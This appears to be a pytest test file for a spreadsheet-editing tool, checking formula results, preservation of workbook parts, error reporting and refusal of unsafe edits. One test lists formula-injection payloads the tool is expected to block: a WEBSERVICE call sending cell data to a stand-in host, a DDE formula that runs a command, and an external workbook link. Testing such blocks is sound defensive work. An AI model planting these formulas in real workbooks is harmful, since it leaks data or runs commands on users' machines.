"""A change keeps all that was in the workbook, or leaves the workbook as it is; formulas show what another program computes."""

from __future__ import annotations

import io
import zipfile
from typing import Any

import openpyxl
import pytest
import xlsxwriter
from openpyxl.chart import BarChart, Reference

from auteryn.tools.registry import Registry
from auteryn.tools.sheet import sheet_create, sheet_read
from auteryn.tools.sheet_update import sheet_update
from unit.tools.office import LibreOffice, sheet_of, without_values
from unit.tools.outside import as_a_judge_calls
from unit.tools.room import Room

BOOK = {
    "name": "Prices",
    "columns": ["item", "price", {"header": "gross", "formula": "=B{row}*1.19", "format": "0.00"}],
    "rows": [["bolt", 10], ["nut", 2.5]],
    "table": False,
    "formulas": {"B5": "=SUM(B2:B3)"},
}


def values(body: bytes, sheet: str = "Prices") -> list[list[Any]]:
    return sheet_of(body, sheet)


def parts(body: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(body)) as package:
        return {name: package.read(name) for name in package.namelist()}


def by_hand(fill: Any) -> bytes:
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    fill(book, book.add_worksheet("Prices"))
    book.close()
    return out.getvalue()


@pytest.mark.tool("sheet_update", "happy")
@pytest.mark.proves("P20")
def test_changed_cells_and_all_formulas_show_what_libreoffice_computes(room: Room, libreoffice: LibreOffice) -> None:
    room.call(sheet_create, path="book.xlsx", sheets=[BOOK, {"name": "Two", "columns": ["a"], "rows": [["kept"]]}])
    given = {
        "path": "book.xlsx",
        "sheet": "prices",
        "edits": {"B2": 20, "D1": "new", "D2": "=B2+B3"},
        "append_rows": [["gear", 7]],
    }
    told = room.call(sheet_update, **as_a_judge_calls(sheet_update, **given))
    assert told["appended"] == "rows 6 to 6" and "warnings" not in told
    body = room.files.read("book.xlsx")
    mine = values(body)
    assert mine[1] == ["bolt", 20.0, pytest.approx(23.8), 22.5] and mine[4][1] == 22.5 and mine[5][:2] == ["gear", 7.0]
    assert mine[0][3] == "new" and values(body, "Two") == [["a"], ["kept"]]
    theirs = values(libreoffice.converted(without_values(body), "book.xlsx", "ods"))
    for ours, other in zip(mine, theirs, strict=True):
        assert [pytest.approx(cell) if isinstance(cell, float) else cell for cell in ours] == other[: len(ours)]


def test_what_the_new_formulas_come_to_is_told_and_every_error(room: Room) -> None:
    room.call(sheet_create, path="book.xlsx", sheets=[BOOK])
    told = room.call(
        sheet_update, path="book.xlsx", edits={"d2": "=B2*2", "B3": 0, "D3": "=B2/B3"}, append_rows=[["x", "=B2+1"]]
    )
    assert told["computed"] == {"D2": 20, "D3": "#DIV/0!", "B6": 11}
    assert told["warnings"] == ["Prices!D3 shows #DIV/0!: mend the formula, or catch it as in =IFERROR(…, 0)"]


def test_styles_widths_filters_and_the_other_parts_stay(room: Room) -> None:
    def fill(book: Any, sheet: Any) -> None:
        sheet.write_row("A1", ["item", "price"])
        sheet.write_row("A2", ["bolt", 10], book.add_format({"bold": True, "bg_color": "#ff0000"}))
        sheet.set_column("A:A", 33)
        sheet.autofilter("A1:B2")
        sheet.freeze_panes(1, 0)
        sheet.data_validation("B2", {"validate": "integer", "criteria": ">", "value": 0})
        sheet.conditional_format(
            "B2", {"type": "cell", "criteria": ">", "value": 5, "format": book.add_format({"italic": True})}
        )
        book.define_name("Total", "=Prices!$B$2")

    room.put("book.xlsx", by_hand(fill))
    before = parts(room.files.read("book.xlsx"))
    room.call(sheet_update, path="book.xlsx", edits={"B2": 11})
    after = parts(room.files.read("book.xlsx"))
    assert {name for name in before if "worksheets" in name} == {name for name in after if "worksheets" in name}
    sheet: Any = openpyxl.load_workbook(io.BytesIO(room.files.read("book.xlsx")))["Prices"]
    assert sheet["B2"].value == 11 and sheet["B2"].font.bold and sheet["B2"].fill.fgColor.rgb == "FFFF0000"
    assert sheet.column_dimensions["A"].width == pytest.approx(33, abs=1) and sheet.auto_filter.ref == "A1:B2"
    assert (
        sheet.freeze_panes == "A2"
        and len(sheet.data_validations.dataValidation) == 1
        and len(sheet.conditional_formatting) == 1
    )
    assert "Total" in sheet.parent.defined_names


@pytest.mark.parametrize("ending", ["xlsx"])
def test_a_workbook_of_another_program_can_be_changed(room: Room, libreoffice: LibreOffice, ending: str) -> None:
    room.put("book.xlsx", libreoffice.converted(b"item,price\nbolt,10\n", "book.csv", ending))
    room.call(sheet_update, path="book.xlsx", edits={"B2": 12})
    assert room.call(sheet_read, path="book.xlsx")["rows"] == [["item", "price"], ["bolt", 12]]


def shape(book: Any, sheet: Any) -> None:
    sheet.write("A1", 1)
    sheet.insert_textbox("C2", "a drawn text")


def sparkline(book: Any, sheet: Any) -> None:
    sheet.write_row("A1", [1, 2, 3])
    sheet.add_sparkline("D1", {"range": "Prices!A1:C1"})


def with_pivot() -> bytes:
    """A workbook with one part that the library does not know."""
    body = parts(by_hand(lambda book, sheet: sheet.write("A1", 1)))
    body["xl/pivotTables/pivotTable1.xml"] = b"<pivotTableDefinition/>"
    return packed(body)


def with_macros() -> bytes:
    return packed(parts(by_hand(lambda book, sheet: sheet.write("A1", 1))) | {"xl/vbaProject.bin": b"macro"})


def packed(body: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        for name, part in body.items():
            package.writestr(name, part)
    return out.getvalue()


@pytest.mark.tool("sheet_update", "failure")
@pytest.mark.parametrize(
    ("body", "said"),
    [
        (with_pivot(), "pivotTable"),
        (with_macros(), "vbaProject"),
        (by_hand(shape), "charts and drawings"),
        (by_hand(sparkline), "sparklineGroups"),
    ],
)
def test_a_change_that_would_lose_a_part_changes_nothing(room: Room, body: bytes, said: str) -> None:
    room.put("book.xlsx", body)
    failed = room.refusal(sheet_update, path="book.xlsx", edits={"A1": 2})
    assert failed.kind == "conflict" and said in str(failed) and room.files.read("book.xlsx") == body


def test_a_chart_stays_or_the_change_is_refused(room: Room) -> None:
    chart = {"kind": "column", "x": "item", "y": "price", "title": "Prices"}
    room.call(sheet_create, path="book.xlsx", sheets=[BOOK | {"formulas": {}, "charts": [chart]}])
    before = room.files.read("book.xlsx")
    try:
        room.call(sheet_update, path="book.xlsx", edits={"B2": 11})
    except Exception:
        assert room.files.read("book.xlsx") == before
        raise
    charts = [body for name, body in parts(room.files.read("book.xlsx")).items() if name.startswith("xl/charts/chart")]
    assert len(charts) == 1 and b"Prices" in charts[0] and b"barChart" in charts[0]


@pytest.mark.tool("sheet_update", "failure")
def test_what_cannot_be_changed_says_why(room: Room) -> None:
    room.call(sheet_create, path="book.xlsx", sheets=[BOOK])
    room.put("bad.xlsx", b"PK\x03\x04 not really")
    before = room.files.read("book.xlsx")
    for given, kind in (
        ({"path": "book.xlsx", "edits": {"nonsense": 1}}, "invalid"),
        ({"path": "book.xlsx", "edits": {"A1": 1}, "sheet": "Nope"}, "not_found"),
        ({"path": "book.xlsx"}, "invalid"),
        ({"path": "book.csv", "edits": {"A1": 1}}, "unsupported"),
        ({"path": "none.xlsx", "edits": {"A1": 1}}, "not_found"),
        ({"path": "bad.xlsx", "edits": {"A1": 1}}, "unsupported"),
    ):
        assert room.refusal(sheet_update, **given).kind == kind, given
    assert room.files.read("book.xlsx") == before


@pytest.mark.proves("L6")
def test_rows_are_added_once_however_often_the_call_is_repeated(room: Room) -> None:
    room.call(sheet_create, path="book.xlsx", sheets=[BOOK])
    first = room.call(sheet_update, call="c", path="book.xlsx", append_rows=[["gear", 7]])
    assert room.call(sheet_update, call="c", path="book.xlsx", append_rows=[["gear", 7]]) == first
    assert [row[0] for row in values(room.files.read("book.xlsx"))].count("gear") == 1


def test_without_its_library_the_tool_says_what_to_install(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("importlib.util.find_spec", lambda name: None)
    assert "office" in Registry([sheet_update]).hidden["sheet_update"]


@pytest.mark.proves("L14")
def test_a_formula_that_reaches_out_is_not_written_here_either(room: Room) -> None:
    room.call(sheet_create, path="a.xlsx", sheets=[BOOK])
    before = room.files.read("a.xlsx")
    for formula in ('=WEBSERVICE("https://x.test/?"&A2)', "=cmd|'/c calc'!A0", "='[other.xlsx]S'!A1"):
        assert room.refusal(sheet_update, path="a.xlsx", edits={"D2": formula}).kind == "blocked"
        assert room.refusal(sheet_update, path="a.xlsx", append_rows=[["x", formula]]).kind == "blocked"
    assert room.files.read("a.xlsx") == before


def test_old_days_and_texts_that_look_like_errors_stay_text(room: Room) -> None:
    room.call(sheet_create, path="a.xlsx", sheets=[BOOK])
    room.call(sheet_update, path="a.xlsx", edits={"D2": "1850-01-01", "D3": '="#"&B2'})
    book = openpyxl.load_workbook(io.BytesIO(room.files.read("a.xlsx")), data_only=True)
    assert [(book["Prices"][cell].value, book["Prices"][cell].data_type) for cell in ("D2", "D3")] == [
        ("1850-01-01", "s"),
        ("#10", "s"),
    ]


def test_formulas_behind_a_sheet_that_is_a_chart_show_their_own_values(room: Room) -> None:
    book = openpyxl.Workbook()
    book.active.title = "One"
    book["One"].append([1, "=A1*2"])
    chart = BarChart()
    chart.add_data(Reference(book["One"], min_col=1, min_row=1, max_row=1))
    book.create_chartsheet("Picture").add_chart(chart)
    book.create_sheet("Two").append([10, "=A1*2"])
    out = io.BytesIO()
    book.save(out)
    room.put("a.xlsx", out.getvalue())
    room.call(sheet_update, path="a.xlsx", sheet="Two", edits={"A1": 11})
    shown = openpyxl.load_workbook(io.BytesIO(room.files.read("a.xlsx")), data_only=True)
    assert (shown["One"]["B1"].value, shown["Two"]["B1"].value) == (2, 22)
